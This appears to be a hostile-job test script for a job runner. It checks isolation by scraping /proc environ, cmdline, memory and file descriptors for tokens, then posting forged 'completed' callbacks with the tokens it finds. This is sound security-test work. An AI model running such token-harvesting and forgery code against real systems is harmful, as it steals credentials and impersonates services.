"""A hostile job: look for the runner's callback token wherever a job can, then try to post in the runner's name.

``snoop.py NEEDLE_HEX DIR``: NEEDLE_HEX is the token, hex-encoded so that this job's own environ and cmdline do
not hold it; DIR is a directory tree to search as well (the test's files). It reads every ``/proc/*/environ``
and ``/proc/*/cmdline`` it can, the files under DIR, and its parent's (the runner's) ``environ``, ``maps``,
``mem`` (a few bytes of the first mapping) and ``fd/*``. Then it posts a forged ``completed`` (exit code 0) to
``$TAILRUN_TEST_CALLBACK`` with every token-looking value it found, and once without one. It prints one JSON
line ``{"found": [where the token was], "runner": {...what reading the runner gave...}, "forged": [statuses]}``
and exits 3. Standard library only: it also runs under the system's Python as an unprivileged user.
"""

import json
import os
import sys
import urllib.error
import urllib.request

needle = bytes.fromhex(sys.argv[1])
tree = sys.argv[2]
found = []
candidates = set()


def look(where, data):
    if needle in data:
        found.append(where)
    for entry in data.split(b"\0"):
        name, _, value = entry.partition(b"=")
        if b"TOKEN" in name.upper() and value:
            candidates.add(value.decode("utf-8", "replace"))


def attempt(path, size=1 << 20):
    """What reading ``path`` gives: "read" (and the data is searched) or "refused: <errno name>"."""
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)  # a pipe or socket must not hold the job up
        try:
            look(path, os.read(fd, size))
        finally:
            os.close(fd)
        return "read"
    except BlockingIOError:
        return "read"  # opened: nothing to read right now
    except OSError as exc:
        return f"refused: {exc.__class__.__name__}"


for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        attempt(f"/proc/{pid}/environ")
        attempt(f"/proc/{pid}/cmdline")
for root, _dirs, files in os.walk(tree):
    for name in files:
        attempt(os.path.join(root, name))

parent = os.getppid()
runner = {
    "pid": parent,
    "environ": attempt(f"/proc/{parent}/environ"),
    "maps": attempt(f"/proc/{parent}/maps"),
}
try:
    with open(f"/proc/{parent}/maps") as f:
        start = int(f.readline().split("-")[0], 16)
    with open(f"/proc/{parent}/mem", "rb") as mem:
        mem.seek(start)
        look(f"/proc/{parent}/mem", mem.read(64))
    runner["mem"] = "read"
except OSError as exc:
    runner["mem"] = f"refused: {exc.__class__.__name__}"
try:
    fds = os.listdir(f"/proc/{parent}/fd")
except OSError as exc:
    fds = []
    runner["fd_list"] = f"refused: {exc.__class__.__name__}"
runner["fds_opened"] = [fd for fd in fds if attempt(f"/proc/{parent}/fd/{fd}", 1 << 16) == "read"]

forged = []
direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))  # straight to the callback, no proxy
url = os.environ["TAILRUN_TEST_CALLBACK"]
for token in [None, *sorted(candidates)[:50]]:
    body = {
        "job_id": os.environ["TAILRUN_JOB_ID"],
        "attempt": int(os.environ["TAILRUN_ATTEMPT"]),
        "seq": 1000,
        "type": "completed",
        "exit_code": 0,
        "forged": True,
    }
    headers = {"Content-Type": "application/json"}
    if token is not None:
        headers["Authorization"] = f"Bearer {token}"
    request = urllib.request.Request(url, data=json.dumps(body).encode(), headers=headers, method="POST")
    try:
        with direct.open(request, timeout=5) as answer:
            forged.append(answer.status)
    except urllib.error.HTTPError as exc:
        forged.append(exc.code)
    except OSError as exc:
        forged.append(str(exc))

print(json.dumps({"found": found, "runner": runner, "forged": forged, "uid": os.getuid()}), flush=True)
sys.exit(3)
